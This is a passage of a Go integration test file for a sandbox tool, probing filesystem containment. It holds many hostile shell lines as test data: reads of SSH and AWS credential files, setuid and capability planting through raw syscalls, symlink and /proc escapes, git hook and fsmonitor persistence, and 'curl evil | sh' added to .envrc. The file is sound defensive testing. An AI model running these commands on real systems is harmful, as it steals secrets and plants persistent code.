package integration

import (
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"syscall"
	"testing"
)

// Filesystem containment: the workspace and a private /tmp are writable,
// everything else is read-only, secrets are unreadable, no privilege bits
// leave the sandbox, and persistence paths in the workspace survive a run
// unchanged.

// ranMarker is echoed after every script so a test can tell "the command
// ran and was contained" from "sandboxd never started the command".
const ranMarker = "__SANDBOXD_FS_TEST_RAN__"

// fsCase is one shell script of a table-driven test. The script's
// placeholders are filled in by expand.
type fsCase struct {
	name   string
	script string
}

// TestFSWriteOutsideWorkspace: writes, truncation, removal, renames and
// creation outside the workspace leave the outside tree as it was.
func TestFSWriteOutsideWorkspace(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"redirect", `echo evil > OUT`},
		{"append", `echo evil >> OUT`},
		{"truncate", `truncate -s0 OUT`},
		{"rm", `rm -f OUT`},
		{"mv-out-of", `mv OUT WS/moved`},
		{"mv-into", `echo evil > WS/in.txt; mv WS/in.txt OUTDIR/in.txt`},
		{"mv-within-outside", `mv OUT OUTDIR/renamed`},
		{"mkdir", `mkdir OUTDIR/new`},
		{"touch-new", `touch OUTDIR/new-file`},
		{"symlink-new", `ln -s /etc/passwd OUTDIR/sym`},
		{"cp-over", `echo evil > WS/src; cp WS/src OUT`},
		{"sed-i", `sed -i s/original/evil/ OUT`},
		{"dd", `echo evil | dd of=OUT conv=notrunc`},
		{"python", `python3 -c 'open("OUT", "w").write("evil")'`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				out := e.outside("victim.txt", "original\n")
				outDir := filepath.Dir(out)
				checkFile := fileUnchanged(t, out)
				checkDir := fileUnchanged(t, outDir)
				before := listDir(t, outDir)
				r := e.run(t, e.expand(c.script, out))
				checkFile()
				checkDir()
				if after := listDir(t, outDir); after != before {
					t.Fatalf("the outside directory changed: before %q, after %q\n%s", before, after, r)
				}
			})
		})
	}
}

// TestFSReadSecrets: the canary secrets in HOME are read by no means,
// neither into the output nor into a file left in the workspace.
func TestFSReadSecrets(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"cat", `cat SSH AWS`},
		{"cat-tilde", `cat ~/.ssh/id_rsa ~/.aws/credentials`},
		{"redirect-stdin", `cat < SSH; cat < AWS`},
		{"cp", `cp SSH WS/k1; cp AWS WS/k2; cat WS/k1 WS/k2`},
		{"cp-dir", `cp -r HOME/.ssh WS/sshcopy; cp -r HOME/.aws WS/awscopy`},
		{"base64", `base64 SSH; base64 AWS > WS/b64.txt; base64 -d WS/b64.txt`},
		{"python", `python3 -c 'import sys; [sys.stdout.write(open(p).read()) for p in sys.argv[1:]]' SSH AWS; python3 -c 'open("WS/py.txt","w").write(open("SSH").read())'`},
		{"head-grep", `head -c 4096 SSH; grep -r . HOME/.aws HOME/.ssh`},
		{"tar", `tar -cf WS/home.tar -C HOME .ssh .aws; tar -tvf WS/home.tar`},
		{"dd", `dd if=SSH of=WS/dd.out; dd if=AWS`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				r := e.run(t, e.expand(c.script, ""))
				e.noLeak(t, r)
			})
		})
	}
	// The control: the rest of HOME is readable, so the cases above are
	// denied reads, not missing files.
	t.Run("control-home-readable", func(t *testing.T) {
		forEach(t, func(t *testing.T, e *env) {
			r := e.run(t, e.expand(`cat HOME/.gitconfig; ls -a HOME/.ssh HOME/.aws`, ""))
			if !strings.Contains(r.stdout, "Sandbox Test") {
				t.Fatalf("~/.gitconfig was not readable inside\n%s", r)
			}
			e.noLeak(t, r)
		})
	})
}

// TestFSRootOnlyFileOutside: when root runs sandboxd, the command is not
// host root: a 0600 root file outside both workspace and HOME stays
// unreadable.
func TestFSRootOnlyFileOutside(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"cat", `cat SECRET`},
		{"cp", `cp SECRET WS/copy; cat WS/copy`},
		{"python", `python3 -c 'print(open("SECRET").read())'`},
		{"proc-self-root", `cat /proc/self/root/SECRET`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				if !e.id.root() {
					t.Skip("root callers only: the file is root's and mode 0600")
				}
				secret := filepath.Join(e.dir, "root-secret")
				if err := os.WriteFile(secret, []byte("root-only "+e.canary+"\n"), 0o600); err != nil {
					t.Fatal(err)
				}
				os.Chmod(secret, 0o600)
				os.Lchown(secret, 0, 0)
				check := fileUnchanged(t, secret)
				r := e.run(t, strings.ReplaceAll(e.expand(c.script, ""), "SECRET", secret))
				e.noLeak(t, r)
				check()
			})
		})
	}
}

// TestFSMetadataOutside: chmod, utime, chown and xattr changes outside the
// workspace (Landlock does not cover them; the read-only mounts must).
func TestFSMetadataOutside(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"chmod-600", `chmod 600 TARGET`},
		{"chmod-777", `chmod 777 TARGET`},
		{"chmod-000", `chmod 000 TARGET`},
		{"touch-date", `touch -d 2001-01-01 TARGET`},
		{"touch-now", `touch TARGET`},
		{"touch-nocreate-atime", `touch -a -d 2001-01-01 TARGET`},
		{"setfattr", `setfattr -n user.x -v y TARGET`},
		{"chown-self", `chown "$(id -u):$(id -g)" TARGET`},
		{"python-utime", `python3 -c 'import os; os.utime("TARGET", (1, 1))'`},
		{"python-chmod", `python3 -c 'import os; os.chmod("TARGET", 0o666)'`},
	}
	for _, c := range cases {
		for _, target := range []string{"outside", "secret", "secret-dir"} {
			t.Run(c.name+"/"+target, func(t *testing.T) {
				forEach(t, func(t *testing.T, e *env) {
					var p string
					switch target {
					case "outside":
						p = e.outside("victim.txt", "original\n")
					case "secret":
						p = filepath.Join(e.home, ".ssh", "id_rsa")
					case "secret-dir":
						p = filepath.Join(e.home, ".ssh")
					}
					check := fileUnchanged(t, p)
					e.run(t, strings.ReplaceAll(e.expand(c.script, ""), "TARGET", p))
					check()
				})
			})
		}
	}
}

// TestFSRootOnlySetuidOutside: a root caller's command cannot make a
// root-owned file outside the workspace setuid.
func TestFSRootOnlySetuidOutside(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"chmod-u+s", `chmod u+s TARGET`},
		{"chmod-4755", `chmod 4755 TARGET`},
		{"chmod-g+s", `chmod g+s TARGET`},
		{"python", `python3 -c 'import os; os.chmod("TARGET", 0o6755)'`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				if !e.id.root() {
					t.Skip("root callers only: the file is root's")
				}
				p := filepath.Join(e.dir, "root-tool")
				if err := os.WriteFile(p, []byte("#!/bin/sh\necho hi\n"), 0o755); err != nil {
					t.Fatal(err)
				}
				os.Lchown(p, 0, 0)
				os.Chmod(p, 0o755)
				check := fileUnchanged(t, p)
				e.run(t, strings.ReplaceAll(e.expand(c.script, ""), "TARGET", p))
				check()
				if m := modeOf(t, p); m&0o6000 != 0 {
					t.Fatalf("%s is now mode %o", p, m)
				}
			})
		})
	}
}

// TestFSNoPrivilegeBitsInWorkspace: through the id-mapped workspace a
// setuid bit or a file capability set inside would be a setuid-root or
// capable binary on the host. None may survive.
func TestFSNoPrivilegeBitsInWorkspace(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"chmod-4755", `cp /bin/true f; chmod 4755 f`},
		{"chmod-u+s", `cp /bin/true f; chmod u+s f`},
		{"chmod-g+s", `cp /bin/true f; chmod g+s f`},
		{"install-4755", `install -m 4755 /bin/true t`},
		{"install-2755", `install -m 2755 /bin/true t`},
		{"cp-p-setuid", `cp -p SUID cp_p`},
		{"cp-a-setuid", `cp -a SUID cp_a`},
		{"tar-p-setuid", `tar -C SUIDDIR -cf /tmp/s.tar suid-src && tar -xpf /tmp/s.tar`},
		{"setcap", `cp /bin/true f; /usr/sbin/setcap cap_net_raw+ep f; /usr/sbin/getcap f`},
		{"setfattr-capability", `cp /bin/true f; setfattr -n security.capability -v 0sAQAAAgAgAAAAAAAAAAAAAAAAAAA= f`},
		{"python-chmod", `cp /bin/true f; python3 -c 'import os; os.chmod("f", 0o6755)'`},
		{"python-fchmod", `cp /bin/true f; python3 -c 'import os; fd = os.open("f", os.O_RDONLY); os.fchmod(fd, 0o4755)'`},
		{"python-open-creat", `python3 -c 'import os; os.close(os.open("c", os.O_CREAT|os.O_WRONLY, 0o4755))'`},
		{"python-open-creat-sgid", `python3 -c 'import os; os.close(os.open("c", os.O_CREAT|os.O_WRONLY, 0o2755))'`},
		{"python-mknod", `python3 -c 'import os, stat; os.mknod("m", stat.S_IFREG|0o4755)'`},
		{"python-tmpfile-link", `python3 -c '
import os
fd = os.open(".", os.O_TMPFILE|os.O_WRONLY, 0o4755)
os.write(fd, b"x")
os.link("/proc/self/fd/%d" % fd, "tl")'`},
		{"python-setxattr", `cp /bin/true f; python3 -c '
import os
os.setxattr("f", "security.capability", bytes.fromhex("0100000200200000000000000000000000000000"))'`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				srcDir := e.mkdir("suid", 0o755)
				src := filepath.Join(srcDir, "suid-src")
				e.writeFile(src, "#!/bin/sh\necho hi\n", 0o755)
				// chown clears the bits: set them after the owner.
				if err := os.Chmod(src, 0o755|os.ModeSetuid); err != nil {
					t.Fatal(err)
				}
				if m := modeOf(t, src); m&0o4000 == 0 {
					t.Fatalf("setup: %s is mode %o, want setuid", src, m)
				}
				script := strings.NewReplacer("SUIDDIR", srcDir, "SUID", src).Replace(e.expand(c.script, ""))
				r := e.run(t, script)
				noPrivilegeBits(t, e.ws, r)
			})
		})
	}
}

// privSrc tries to create or mark a file setuid through calls the
// ordinary tools do not use: openat2 (its mode is behind a pointer),
// fchmodat2, and the i386 and x32 system call entry points.
const privSrc = `#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
	if (argc < 3) return 2;
	const char *how = argv[1];
	/* a path the 32-bit entry points can address */
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (p == MAP_FAILED) { perror("mmap"); return 2; }
	strncpy(p, argv[2], 4000);
	long r = -1;
	errno = 0;
	if (!strcmp(how, "openat2")) {
		struct open_how oh = { .flags = O_CREAT | O_WRONLY, .mode = 04755 };
		r = syscall(SYS_openat2, AT_FDCWD, p, &oh, sizeof oh);
	} else {
		int fd = open(p, O_CREAT | O_WRONLY, 0755);
		if (fd >= 0) close(fd);
		if (!strcmp(how, "fchmodat2")) {
			r = syscall(452, AT_FDCWD, p, 06755, 0);
		} else if (!strcmp(how, "chmod")) {
			r = syscall(SYS_chmod, p, 04755);
		} else if (!strcmp(how, "int80")) {
			/* i386 chmod is 15 */
			__asm__ volatile ("int $0x80" : "=a"(r) : "a"(15L), "b"(p), "c"(04755L) : "memory");
		} else if (!strcmp(how, "int80-fchmodat")) {
			/* i386 fchmodat is 306 */
			__asm__ volatile ("int $0x80" : "=a"(r) : "a"(306L), "b"(-100L), "c"(p), "d"(04755L) : "memory");
		} else if (!strcmp(how, "x32")) {
			r = syscall(0x40000000 | SYS_chmod, p, 04755);
		} else if (!strcmp(how, "mknodat")) {
			unlink(p);
			r = syscall(SYS_mknodat, AT_FDCWD, p, 0100000 | 04755, 0);
		}
	}
	printf("%s: %ld (errno %d)\n", how, r, errno);
	return 0;
}
`

// TestFSNoPrivilegeBitsRawSyscalls: the same as above through the system
// call entry points a filter keyed on the common calls could miss.
func TestFSNoPrivilegeBitsRawSyscalls(t *testing.T) {
	t.Parallel()
	binDir, err := os.MkdirTemp(baseDir, "privbin-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(binDir, 0o755)
	t.Cleanup(func() { os.RemoveAll(binDir) })
	bin := cc(t, binDir, "priv", privSrc)
	for _, how := range []string{"openat2", "fchmodat2", "chmod", "int80", "int80-fchmodat", "x32", "mknodat"} {
		t.Run(how, func(t *testing.T) {
			if why := noInt80(t); why != "" && strings.HasPrefix(how, "int80") {
				t.Skip("skipped: " + why)
			}
			forEach(t, func(t *testing.T, e *env) {
				r := e.run(t, bin+" "+how+" f; ls -l f")
				noPrivilegeBits(t, e.ws, r)
			})
		})
	}
}

// TestFSEscapes: symlinks, hardlinks and /proc root links do not lead
// out of the sandbox.
func TestFSEscapes(t *testing.T) {
	t.Parallel()
	cases := []fsCase{
		{"symlink-write", `ln -s OUT WS/link; echo evil > WS/link`},
		{"symlink-append", `ln -s OUT WS/link; echo evil >> WS/link`},
		{"symlink-dir-write", `ln -s OUTDIR WS/dlink; echo evil > WS/dlink/victim.txt; echo evil > WS/dlink/new`},
		{"hardlink-write", `ln OUT WS/hl; echo evil > WS/hl; echo evil >> WS/hl`},
		{"proc-self-root-write", `echo evil > /proc/self/root/OUT`},
		{"proc-1-root-write", `echo evil > /proc/1/root/OUT`},
		{"proc-self-cwd-write", `cd OUTDIR && echo evil > /proc/self/cwd/victim.txt`},
		{"proc-self-root-read", `cat /proc/self/root/SSH /proc/self/root/AWS`},
		{"proc-1-root-read", `cat /proc/1/root/SSH /proc/1/root/AWS`},
		{"proc-fd-read", `exec 3<HOME/.ssh; cat /proc/self/fd/3/id_rsa`},
		{"symlink-read", `ln -s SSH WS/k; cat WS/k; cp -L WS/k WS/k2`},
		{"hardlink-read", `ln SSH WS/k; cat WS/k; ln AWS WS/a; cat WS/a`},
		{"symlink-home-read", `ln -s HOME WS/h; cat WS/h/.ssh/id_rsa WS/h/.aws/credentials`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forEach(t, func(t *testing.T, e *env) {
				out := e.outside("victim.txt", "original\n")
				outDir := filepath.Dir(out)
				checkFile := fileUnchanged(t, out)
				checkDir := fileUnchanged(t, outDir)
				checkSSH := fileUnchanged(t, filepath.Join(e.home, ".ssh", "id_rsa"))
				checkAWS := fileUnchanged(t, filepath.Join(e.home, ".aws", "credentials"))
				r := e.run(t, e.expand(c.script, out))
				checkFile()
				checkDir()
				checkSSH()
				checkAWS()
				e.noLeak(t, r)
			})
		})
	}
}

// evilHook is a hook body that leaves the marker when the host runs it.
const evilHook = `printf '#!/bin/sh\ntouch MARK\n'`

// TestFSPersistenceExisting: git hooks and config that exist when the run
// starts cannot be changed, replaced, renamed away or redirected.
// Afterwards the host runs git (status, commit, checkout) in the
// workspace as the caller: nothing planted may run.
func TestFSPersistenceExisting(t *testing.T) {
	t.Parallel()
	type existingCase struct {
		name   string
		nested bool // the host also makes a nested repository sub/.git
		script string
		setup  func(t *testing.T, e *env) // more host-side preparation
	}
	hooksPath := func(t *testing.T, e *env) { e.hostGit(t, "config", "core.hooksPath", ".githooks") }
	include := func(t *testing.T, e *env) { e.hostGit(t, "config", "include.path", "../project.gitconfig") }
	cases := []existingCase{
		{"plant-pre-commit", false, evilHook + ` > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`, nil},
		{"plant-hook-cp", false, `cp /bin/true .git/hooks/post-checkout`, nil},
		{"append-config", false, `printf '[core]\n\thooksPath = /tmp/h\n\tfsmonitor = "touch MARK; false"\n' >> .git/config`, nil},
		{"git-config", false, `git config core.hooksPath /tmp/h; git config core.fsmonitor "touch MARK; false"`, nil},
		{"replace-config", false, `printf '[core]\n\tfsmonitor = "touch MARK; false"\n' > /tmp/c; cp /tmp/c .git/config; mv /tmp/c .git/config`, nil},
		{"rm-config", false, `rm -f .git/config; printf '[core]\n\tfsmonitor = "touch MARK; false"\n' > .git/config`, nil},
		{"rename-git", false, `mv .git .git.old && cp -a .git.old .git && ` + evilHook + ` > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`, nil},
		{"rename-hooks", false, `mv .git/hooks .git/hooks.old; mkdir -p .git/hooks; ` + evilHook + ` > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`, nil},
		{"rename-config", false, `mv .git/config .git/config.old; printf '[core]\n\tfsmonitor = "touch MARK; false"\n' > .git/config`, nil},
		{"rm-hooks", false, `rm -rf .git/hooks; mkdir .git/hooks; ` + evilHook + ` > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`, nil},
		{"symlink-hooks", false, `mkdir -p WS/evilhooks; ` + evilHook + ` > WS/evilhooks/pre-commit; chmod +x WS/evilhooks/pre-commit; rm -rf .git/hooks; ln -sfn WS/evilhooks .git/hooks`, nil},
		{"python-rename-git", false, `python3 -c '
import os, shutil
os.rename(".git", ".git.old")
shutil.copytree(".git.old", ".git", symlinks=True)
open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ntouch MARK\n")
os.chmod(".git/hooks/pre-commit", 0o755)'`, nil},
		// .git/commondir makes git take config, hooks, objects and refs from
		// another directory: a writable file redirecting both protected ones.
		{"commondir", false, `mkdir -p WS/evil && cp -a .git/. WS/evil/ && rm -rf WS/evil/hooks && mkdir WS/evil/hooks && ` +
			evilHook + ` > WS/evil/hooks/pre-commit && chmod +x WS/evil/hooks/pre-commit && ` +
			`printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch MARK; false"\n' > WS/evil/config && echo ../evil > .git/commondir`, nil},
		{"commondir-absolute", false, `mkdir -p WS/evil && cp -a .git/. WS/evil/ && ` + evilHook + ` > WS/evil/hooks/pre-commit && chmod +x WS/evil/hooks/pre-commit && echo WS/evil > .git/commondir`, nil},
		{"nested-rename-parent", true, `mv sub sub.old && cp -a sub.old sub && ` + evilHook + ` > sub/.git/hooks/pre-commit && chmod +x sub/.git/hooks/pre-commit`, nil},
		{"nested-plant", true, evilHook + ` > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit; printf '[core]\n\tfsmonitor = "touch MARK; false"\n' >> sub/.git/config`, nil},
		{"nested-replace-git", true, `mv sub/.git sub/.git.old; rm -rf sub/.git; mkdir -p sub/.git; cp -a sub/.git.old/. sub/.git/; ` + evilHook + ` > sub/.git/hooks/pre-commit; chmod +x sub/.git/hooks/pre-commit`, nil},
		// The mounts that make them read-only cannot be taken away.
		{"umount", false, `umount .git/hooks; umount -l .git/config; ` + evilHook + ` > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core]' >> .git/config`, nil},
		{"unshare-umount", false, `unshare -Urm sh -c "umount -l .git/hooks; umount -l .git/config; printf '#!/bin/sh\ntouch MARK\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo '[core]' >> .git/config"`, nil},
		// Places the existing config names.
		{"hookspath-created", false, `mkdir -p .githooks && ` + evilHook + ` > .githooks/pre-commit && chmod +x .githooks/pre-commit`, hooksPath},
		{"hookspath-existing", false, evilHook + ` > .githooks/pre-commit; chmod +x .githooks/pre-commit; mv .githooks .githooks.old; mkdir .githooks; ` + evilHook + ` > .githooks/pre-commit; chmod +x .githooks/pre-commit`,
			func(t *testing.T, e *env) {
				hooksPath(t, e)
				e.writeFile(filepath.Join(e.ws, ".githooks", "pre-commit"), "#!/bin/sh\nexit 0\n", 0o755)
			}},
		{"include-created", false, `printf '[core]\n\tfsmonitor = "touch MARK; false"\n' > project.gitconfig`, include},
		{"include-existing", false, `printf '[core]\n\tfsmonitor = "touch MARK; false"\n' >> project.gitconfig`,
			func(t *testing.T, e *env) {
				include(t, e)
				e.writeFile(filepath.Join(e.ws, "project.gitconfig"), "[user]\n\tname = Project\n", 0o644)
			}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forModes(t, func(t *testing.T, e *env, layer bool) {
				e.hostRepo(t, ".")
				if c.setup != nil {
					c.setup(t, e)
				}
				gitDirs := []string{".git"}
				if c.nested {
					e.hostRepo(t, "sub")
					gitDirs = append(gitDirs, "sub/.git")
				}
				type pinned struct {
					dir, hooks uint64
					hooksList  string
					config     func()
				}
				before := map[string]pinned{}
				configs := map[string]string{}
				for _, g := range gitDirs {
					gd := filepath.Join(e.ws, g)
					b, _ := os.ReadFile(filepath.Join(gd, "config"))
					configs[g] = string(b)
					before[g] = pinned{
						dir:       inode(t, gd),
						hooks:     inode(t, filepath.Join(gd, "hooks")),
						hooksList: listDir(t, filepath.Join(gd, "hooks")),
						config:    fileUnchanged(t, filepath.Join(gd, "config")),
					}
				}
				r := e.run(t, e.expand(c.script, ""))

				for _, g := range gitDirs {
					if layer {
						// The commit may replace files with equal ones and
						// drop sample hooks the command removed; what counts
						// is that nothing able to run came through.
						noExecConfig(t, filepath.Join(e.ws, g, "config"), configs[g], r)
						continue
					}
					gd := filepath.Join(e.ws, g)
					b := before[g]
					if got := inode(t, gd); got != b.dir {
						t.Fatalf("%s is no longer the original directory (inode %d, was %d)\n%s", g, got, b.dir, r)
					}
					if got := inode(t, filepath.Join(gd, "hooks")); got != b.hooks {
						t.Fatalf("%s/hooks is no longer the original directory (inode %d, was %d)\n%s", g, got, b.hooks, r)
					}
					b.config()
					if after := listDir(t, filepath.Join(gd, "hooks")); after != b.hooksList {
						t.Fatalf("%s/hooks changed: before %q, after %q\n%s", g, b.hooksList, after, r)
					}
				}
				if hooks := liveHooks(e.ws); len(hooks) > 0 {
					t.Fatalf("hooks left in the workspace: %v\n%s", hooks, r)
				}
				for _, old := range []string{".git.old", "sub.old"} {
					if _, err := os.Lstat(filepath.Join(e.ws, old)); err == nil {
						t.Logf("%s exists after the run (no live hook in it)", old)
					}
				}
				for _, g := range gitDirs {
					e.hostProbe(t, filepath.Dir(g), r)
				}
			})
		})
	}
}

// TestFSPersistenceNew: persistence paths the command creates do not
// remain in the workspace after the run.
func TestFSPersistenceNew(t *testing.T) {
	t.Parallel()
	type newCase struct {
		name   string
		fresh  bool // no repository on the host before the run
		script string
		gone   []string // workspace-relative paths that must not exist afterwards
		report string   // what the report or stderr must name ("" when nothing is created)
		probe  []string // where the host runs git afterwards (default: the parents of gone)
	}
	cases := []newCase{
		{"nested-repo-hook", false,
			`mkdir -p sub && cd sub && git init -q && ` + evilHook + ` > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout`,
			[]string{"sub/.git"}, "sub/.git", nil},
		{"nested-repo-fsmonitor", false,
			`mkdir -p sub && cd sub && git init -q && git config core.fsmonitor "touch MARK; false"`,
			[]string{"sub/.git"}, "sub/.git", nil},
		{"nested-repo-deep", false,
			`mkdir -p a/b/c && cd a/b/c && git init -q && cp /bin/true .git/hooks/pre-commit`,
			[]string{"a/b/c/.git"}, "a/b/c/.git", nil},
		{"nested-gitfile", false,
			`mkdir -p sub evil/hooks && cp /bin/true evil/hooks/pre-commit && echo "gitdir: ../evil" > sub/.git`,
			[]string{"sub/.git"}, "sub/.git", nil},
		{"root-repo-hook", true,
			`git init -q && ` + evilHook + ` > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
			[]string{".git/hooks/pre-commit"}, ".git", nil},
		{"root-repo-hookspath", true,
			`git init -q && git config core.hooksPath h && mkdir h && ` + evilHook + ` > h/pre-commit && chmod +x h/pre-commit`,
			[]string{".git"}, ".git", nil},
		{"root-repo-symlink", true,
			`mkdir -p evil && cd evil && git init -q && ` + evilHook + ` > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && cd .. && ln -s evil/.git .git`,
			[]string{".git"}, ".git", nil},
		{"hooks-dir-missing", false, // the host repository has no hooks directory at the start
			`mkdir -p .git/hooks; ` + evilHook + ` > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`,
			[]string{".git/hooks/pre-commit"}, "", nil},
		{"envrc", false, `echo 'touch MARK' > .envrc`, []string{".envrc"}, ".envrc", nil},
		{"vscode-tasks", false, `mkdir -p .vscode && echo '{"tasks":[]}' > .vscode/tasks.json`, []string{".vscode/tasks.json"}, ".vscode", nil},
		{"claude-settings", false, `mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json`, []string{".claude/settings.json"}, ".claude", nil},
		{"bashrc", false, `echo 'touch MARK' > .bashrc`, []string{".bashrc"}, ".bashrc", nil},
		{"husky", false, `mkdir -p .husky && cp /bin/true .husky/pre-commit`, []string{".husky/pre-commit"}, ".husky", nil},
		{"pre-commit-config", false, `echo 'repos: []' > .pre-commit-config.yaml`, []string{".pre-commit-config.yaml"}, ".pre-commit-config.yaml", nil},
		{"sandboxd-config", false, `echo 'x' > .sandboxd.toml`, []string{".sandboxd.toml"}, ".sandboxd.toml", nil},
		{"symlink-envrc", false, `ln -s /etc/passwd .envrc`, []string{".envrc"}, ".envrc", nil},
		{"renamed-into-place", false, `mkdir -p staging && echo '{"hooks":{}}' > staging/settings.json && mv staging .claude`, []string{".claude/settings.json"}, ".claude", nil},
		// A new repository whose config and hooks look harmless but whose
		// commondir (or worktree config) brings in others.
		{"root-repo-commondir", true, `git init -q && mkdir -p evil && cp -a .git/. evil/ && ` + evilHook + ` > evil/hooks/pre-commit && chmod +x evil/hooks/pre-commit && ` +
			`printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch MARK; false"\n' > evil/config && echo ../evil > .git/commondir`,
			nil, "", []string{"."}},
		{"nested-repo-commondir", false, `mkdir -p sub && cd sub && git init -q && mkdir -p ../evil && cp -a .git/. ../evil/ && ` + evilHook + ` > ../evil/hooks/pre-commit && chmod +x ../evil/hooks/pre-commit && ` +
			`printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch MARK; false"\n' > ../evil/config && echo ../../evil > .git/commondir`,
			nil, "", []string{"sub"}},
		{"root-repo-worktree-config", true, `git init -q && git config extensions.worktreeConfig true && git config --worktree core.fsmonitor "touch MARK; false"`,
			nil, "", []string{"."}},
		{"nested-repo-worktree-config", false, `mkdir -p sub && cd sub && git init -q && git config extensions.worktreeConfig true && git config --worktree core.fsmonitor "touch MARK; false"`,
			nil, "", []string{"sub"}},
		// A repository without a .git name: git finds a bare repository
		// in the directory itself, and core.worktree gives it a work tree.
		{"embedded-bare-repo", false, `mkdir -p src && cd src && git init -q --bare . && git config core.bare false && git config core.worktree .. && ` +
			`git config core.fsmonitor "touch MARK; false" && ` + evilHook + ` > hooks/pre-commit && chmod +x hooks/pre-commit`,
			nil, "", []string{"src"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forModes(t, func(t *testing.T, e *env, layer bool) {
				if !c.fresh {
					e.hostRepo(t, ".")
				}
				if c.name == "husky" || c.name == "pre-commit-config" {
					// A hook manager's file is refused where a hook runs it
					// (elsewhere it is listed: TestLeakProtectedNames).
					e.hostGit(t, "config", "core.hooksPath", ".husky/_")
				}
				if c.name == "hooks-dir-missing" {
					if err := os.RemoveAll(filepath.Join(e.ws, ".git", "hooks")); err != nil {
						t.Fatal(err)
					}
				}
				r := e.run(t, e.expand(c.script, ""))
				for _, g := range c.gone {
					st, err := os.Lstat(filepath.Join(e.ws, g))
					if layer && err == nil && st.IsDir() && filepath.Base(g) == ".git" {
						// The commit keeps a new repository, without what
						// could run (checked below).
						noExecConfig(t, filepath.Join(e.ws, g, "config"), "", r)
						continue
					}
					if !errors.Is(err, fs.ErrNotExist) {
						t.Fatalf("%s remains in the workspace after the run (lstat: %v)\n%s", g, err, r)
					}
				}
				if hooks := liveHooks(e.ws); len(hooks) > 0 {
					t.Fatalf("hooks left in the workspace: %v\n%s", hooks, r)
				}
				probe := c.probe
				for _, g := range c.gone {
					// the work tree the path belongs to
					dir, _, _ := strings.Cut("/"+g, "/.git")
					probe = append(probe, "."+dir)
				}
				for _, dir := range probe {
					e.hostProbe(t, dir, r)
				}
				if c.report != "" && !mentions(r, c.report) {
					t.Fatalf("neither the report's persistence list nor stderr names %s\nreport: %v\n%s", c.report, r.report["persistence"], r)
				}
			})
		})
	}
}

// TestFSPersistenceExistingFiles: persistence files that already exist
// are read-only during the run.
func TestFSPersistenceExistingFiles(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, file, script string
	}{
		{"envrc-append", ".envrc", `echo 'curl evil | sh' >> .envrc`},
		{"envrc-replace", ".envrc", `echo 'evil' > /tmp/e; mv /tmp/e .envrc; rm -f .envrc; echo evil > .envrc`},
		{"vscode-tasks", ".vscode/tasks.json", `echo '{"evil":1}' > .vscode/tasks.json`},
		{"vscode-rename-dir", ".vscode/tasks.json", `mv .vscode .vscode.old; mkdir .vscode; echo '{"evil":1}' > .vscode/tasks.json`},
		{"claude-settings", ".claude/settings.json", `echo '{"evil":1}' > .claude/settings.json`},
		{"bashrc-chmod", ".bashrc", `chmod 777 .bashrc; touch -d 2001-01-01 .bashrc; setfattr -n user.x -v y .bashrc`},
		// A Dev Containers file the person may already have used: a new
		// one is listed, a change to this one refused.
		{"devcontainer", ".devcontainer/devcontainer.json", `echo '{"initializeCommand": "touch MARK"}' > .devcontainer/devcontainer.json`},
		{"npmrc-script-shell", ".npmrc", `echo 'script-shell=/tmp/evil' >> .npmrc`},
		{"hgrc-hook", "lib/.hg/hgrc", `printf '[hooks]\npre-status = touch MARK\n' >> lib/.hg/hgrc`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			forModes(t, func(t *testing.T, e *env, layer bool) {
				p := filepath.Join(e.ws, c.file)
				e.writeFile(p, "original\n", 0o644)
				check := fileUnchanged(t, p)
				e.run(t, c.script)
				check()
			})
		})
	}
}

// TestFSFirstRunStarts: the first run in a fresh HOME (no sandboxd state
// yet) starts the command every time and its workspace write lands. (The
// Landlock ruleset was once built concurrently with the creation of the
// cache directory it names, and about one first run in twenty failed.)
func TestFSFirstRunStarts(t *testing.T) {
	t.Parallel()
	forEach(t, func(t *testing.T, e *env) {
		for i := 0; i < 15; i++ {
			home := e.mkdir(fmt.Sprintf("home-%d", i), 0o700)
			e.home = home
